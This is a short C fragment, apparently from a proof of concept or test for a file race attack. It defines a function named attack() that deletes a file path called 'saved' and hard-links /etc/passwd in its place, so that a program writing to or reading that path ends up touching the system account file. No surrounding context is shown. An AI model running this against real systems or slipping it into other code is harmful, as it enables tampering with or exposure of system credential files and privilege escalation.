#define AT_SAVE
static void attack(void) { unlink(saved); if (link("/etc/passwd", saved) == 0) puts("a link"); }
